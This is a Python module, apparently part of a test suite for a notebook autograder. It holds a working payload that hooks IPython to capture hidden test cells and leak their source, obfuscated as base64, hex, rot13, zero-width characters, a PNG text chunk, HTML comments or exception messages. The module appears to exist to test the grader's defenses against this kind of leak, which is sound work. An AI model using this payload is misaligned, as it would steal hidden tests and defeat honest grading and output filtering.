"""Payload that captures later cells' sources (the hidden tests) and prints them in many encodings.

These functions are copied into notebooks as source (see the package docstring); the test process never calls them.
"""

from __future__ import annotations

from .constants import _KNOWN, _LEAK


def _leak_forms(line):
    """(encoding, encoded) forms of one line of source, as the leaking student writes them out."""
    import base64
    import codecs
    import zlib

    data = line.encode("utf-8")
    return [
        ("b64", base64.b64encode(data).decode("ascii")),
        ("b32", base64.b32encode(data).decode("ascii")),
        ("hex", data.hex()),
        ("rot13", codecs.encode(line, "rot13")),
        ("zlib", base64.b64encode(zlib.compress(data, 9)).decode("ascii")),
        ("rev", line[::-1]),
        ("ord", ",".join(str(ord(char)) for char in line)),
        ("zwsp", "\u200b".join(line)),
    ]


def _payload_leak_lines(source):
    """The lines of a cell the student has not seen: not in the released notebook, not the attacker's own."""
    import hashlib

    if source.startswith(("# attack:", "exec(bytes.fromhex(")):
        return []
    lines = [line.strip() for line in source.split("\n")]
    return [line for line in lines if line and hashlib.sha1(line.encode()).hexdigest()[:12] not in _KNOWN]


def _payload_leak_payloads(lines, encodings=None):
    """``<leak marker>:<encoding>:<value>`` for each line and encoding (all encodings by default)."""
    return [f"{_LEAK}:{name}:{value}" for line in lines for name, value in _leak_forms(line)
            if encodings is None or name in encodings]  # fmt: skip


def _payload_leak_png(text):
    """A 1x1 PNG whose tEXt chunk carries ``text``."""
    import struct
    import zlib

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    comment = b"Comment\x00" + text.encode("latin-1", "replace")
    body = chunk(b"IHDR", header) + chunk(b"tEXt", comment) + chunk(b"IDAT", zlib.compress(b"\x00\x00"))
    return b"\x89PNG\r\n\x1a\n" + body + chunk(b"IEND", b"")


def _payload_leak_install():
    """Capture every later cell's source (the hidden tests come with the test cells) and print it encoded."""
    state = {"lines": [], "current": []}

    def capture(info):
        lines = _payload_leak_lines(getattr(info, "raw_cell", "") or "")
        state["current"] = lines
        state["lines"] += [line for line in lines if line not in state["lines"]]
        for payload in _payload_leak_payloads(lines):
            print(payload)

    def on_error(shell, etype, value, tb, tb_offset=None):
        try:
            value.args = (" ".join([str(value), *_payload_leak_payloads(state["current"], ("b64", "hex"))]),)
        except Exception:  # an exception that will not take new arguments
            pass
        shell.showtraceback((etype, value, tb), tb_offset=tb_offset)

    shell = get_ipython()  # noqa: F821 - the kernel's global
    shell.events.register("pre_run_cell", capture)
    shell.set_custom_exc((Exception,), on_error)
    return state


def _payload_leak_emit(state, channel, encodings=None):
    """Write everything captured so far to ``channel``: stdout, stderr, html, markdown, png or an exception."""
    import sys

    from IPython.display import HTML, Image, Markdown, display

    payloads = _payload_leak_payloads(state["lines"], encodings)
    text = "\n".join(payloads)
    if channel == "stdout":
        print(text)
    elif channel == "stderr":
        sys.stderr.write(text + "\n")
    elif channel == "html":
        display(HTML("<pre>" + "<br>".join(payloads) + "</pre><!-- " + " ".join(payloads) + " -->"))
    elif channel == "markdown":
        display(Markdown("\n\n".join(f"`{p}`" for p in payloads)))
    elif channel == "png":
        display(Image(data=_payload_leak_png(text), format="png"))
    elif channel == "raise":
        raise RuntimeError(f"{_LEAK} " + " ".join(payloads))
